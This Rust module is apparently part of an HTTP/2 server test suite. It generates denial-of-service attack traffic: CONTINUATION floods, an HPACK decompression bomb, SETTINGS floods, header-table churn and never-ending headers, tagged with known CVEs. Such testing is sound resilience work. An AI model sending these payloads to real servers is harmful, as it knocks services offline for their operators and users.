//! Heads that are long, become long, or never end, and the tables of HPACK.

use conformance_wire::frames::{END_HEADERS, END_STREAM, Frame, HEADERS, literal};
use http::Request;

use super::{Attack, CHECK, Form, Means, POST_TO_ROOT, RUN, call, hello, settings, streams};
use crate::attacker::{Piece, Reading};

const CONTINUATION: u8 = 9;
/// The setting of how many bytes the table of this side may have (RFC 9113, 6.5.2).
const HEADER_TABLE_SIZE: u8 = 1;
/// What makes an entry of the peer's table (RFC 7541, 6.2.1), and the first entry of it
/// (6.1).
const WITH_INDEXING: u8 = 0x40;
const FIRST_ENTRY: u8 = 0x80 + 62;
/// Bytes of a value whose entry fits in a table of 4096.
const VALUE_BYTES: usize = 4000;
/// What sets the peer's table to no bytes, and to 4096 again (RFC 7541, 6.3).
const EMPTIED_AND_REFILLED: &[u8] = &[0x20, 0x3f, 0xe1, 0x1f];
/// Connections of which each has so many streams that each connection may have.
const STREAMS: usize = 70;
const LONG_BYTES: usize = 12 * 1024;

pub(super) fn all(form: Form) -> Vec<Attack> {
    vec![
        Attack::new("flood of CONTINUATION", 4, |means| {
            let more = continued(&header(100));
            let times = means.form.share(4) / more.len() + 1;
            vec![begun(POST_TO_ROOT), Piece::repeated(more, times)]
        })
        .sends("a head with CONTINUATION without end")
        .known_as("CVE-2024-27316")
        .that_must_end()
        .that_fills_by_sending(),
        Attack::new("flood of empty CONTINUATION", 4, |means| {
            let more = continued(&[]).repeat(100);
            vec![begun(POST_TO_ROOT), Piece::repeated(more, 1000 * means.form.scale)]
        })
        .sends("a head with CONTINUATION of no bytes without end")
        .known_as("CVE-2024-27316")
        .that_must_end(),
        Attack::new("bomb of HPACK", 20, |means| {
            streams(100 * means.form.scale, |stream| vec![bomb(stream)])
        })
        .sends("heads of 16 KiB that name one long entry of the table 4000 times")
        .known_as("HPACK bomb, CVE-2016-6581")
        .that_fills_by_asking(100 * form.scale * VALUE_BYTES * VALUE_BYTES),
        Attack::new("heads of 15 KiB", 20, |means| heads(means, &header(15 * 1024)))
            .sends("heads with a header of 15 KiB"),
        Attack::new("heads of a thousand headers", 20, |means| {
            heads(means, &header(1).repeat(1000))
        })
        .sends("heads with a thousand headers"),
        Attack::new("heads of empty names", 20, |means| heads(means, &[0; 3].repeat(5000)))
            .sends("heads with 5000 headers without name and value")
            .known_as("CVE-2019-9516"),
        Attack::new("changes of the table of HPACK", 20, |means| {
            let block = [&EMPTIED_AND_REFILLED.repeat(3500)[..], POST_TO_ROOT].concat();
            streams(100 * means.form.scale, |stream| {
                vec![Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, block.clone())]
            })
        })
        .sends("heads that empty the table and make it large again 3500 times"),
        Attack::new("settings of the table of HPACK", 4, |means| {
            let check = call(&format!("/{CHECK}"));
            streams(1000 * means.form.scale, |stream| {
                let table = |bytes| settings(&[(HEADER_TABLE_SIZE, bytes)]);
                let call = [Frame::head(&check, stream), Frame::body([0; 5], stream)];
                [vec![table(0), table(u32::MAX)], call.to_vec()].concat()
            })
        })
        .sends("checks of health, before each of which it has the server's table emptied and made as large as can be"),
        Attack::new("settings of thousands of entries", 4, |means| {
            let entries = [(HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 4096)].repeat(1300);
            let frame = settings(&entries).bytes();
            vec![Piece::once(hello(&[])), Piece::repeated(frame, 300 * means.form.scale)]
        })
        .sends("SETTINGS of 2600 entries without end")
        .known_as("CVE-2020-11080")
        .reading(Reading::Nothing),
        Attack::new("heads of 12 KiB that never end", form.many(), |_| {
            vec![begun(&[POST_TO_ROOT, &header(LONG_BYTES)].concat())]
        })
        .sends("a head of 12 KiB whose end does not come")
        .reading(Reading::Nothing),
        Attack::new("heads of 12 KiB whose messages do not come", STREAMS, |means| {
            unsent(means, &call(&format!("/{CHECK}")))
        })
        .sends("calls without a key on hundreds of streams, each a head of 12 KiB without a message")
        .that_fills_by_sending(),
        Attack::new("signed heads of 12 KiB whose messages do not come", STREAMS, |means| {
            unsent(means, &means.signed(RUN))
        })
        .sends("signed calls on hundreds of streams, each a head of 12 KiB without a message")
        .that_fills_by_sending(),
    ]
}

/// The beginning of a head.
fn begun(block: &[u8]) -> Piece {
    let begun = Frame::new(HEADERS, 0, 1, block).bytes();
    Piece::once([hello(&[]), begun].concat())
}

fn continued(block: &[u8]) -> Vec<u8> {
    Frame::new(CONTINUATION, 0, 1, block).bytes()
}

/// Requests with these headers.
fn heads(means: &Means, headers: &[u8]) -> Vec<Piece> {
    let block = [POST_TO_ROOT, headers].concat();
    streams(200 * means.form.scale, |stream| {
        vec![Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, block.clone())]
    })
}

/// Calls with a long header, without messages.
fn unsent(means: &Means, head: &Request<()>) -> Vec<Piece> {
    let count = means.form.share(STREAMS) / LONG_BYTES + 1;
    streams(count, |stream| {
        let mut frame = Frame::head(head, stream);
        frame.payload.extend(header(LONG_BYTES));
        vec![frame]
    })
}

/// A head of 16 KiB that makes 16 million bytes of headers: one long entry of the table, named
/// again and again.
fn bomb(stream: u32) -> Frame {
    let mut block = POST_TO_ROOT.to_vec();
    let entry = header(VALUE_BYTES);
    block.push(WITH_INDEXING);
    block.extend(&entry[1..]);
    block.extend([FIRST_ENTRY].repeat(VALUE_BYTES));
    Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, block)
}

/// A header with a value of so many bytes.
fn header(bytes: usize) -> Vec<u8> {
    let mut block = Vec::new();
    literal(&mut block, "x", "v".repeat(bytes));
    block
}

#[cfg(test)]
mod tests {
    use conformance_wire::frames::MAX_FRAME_BYTES;

    use super::*;

    #[test]
    fn a_bomb_is_small_and_fits_in_a_frame() {
        let frame = bomb(1);
        assert!(frame.payload.len() < MAX_FRAME_BYTES);
        assert_eq!(frame.payload[5], WITH_INDEXING);
        assert!(frame.payload.ends_with(&[FIRST_ENTRY; VALUE_BYTES]));
    }

    #[test]
    fn a_long_head_fits_in_a_frame_and_its_streams_on_a_connection() {
        /// What a server lets a connection open at once.
        const MOST: usize = 1000;
        for form in [Form::SHORT, Form::FULL] {
            let means = Means { secret: "secret".to_owned(), form };
            let pieces = unsent(&means, &means.signed(RUN));
            let heads: usize = pieces[1..].iter().map(|piece| piece.bytes.len()).sum();
            assert!(heads / LONG_BYTES < MOST);
            let frame = &pieces[1].bytes[..3];
            assert!(u32::from_be_bytes([0, frame[0], frame[1], frame[2]]) < MAX_FRAME_BYTES as u32);
        }
    }
}
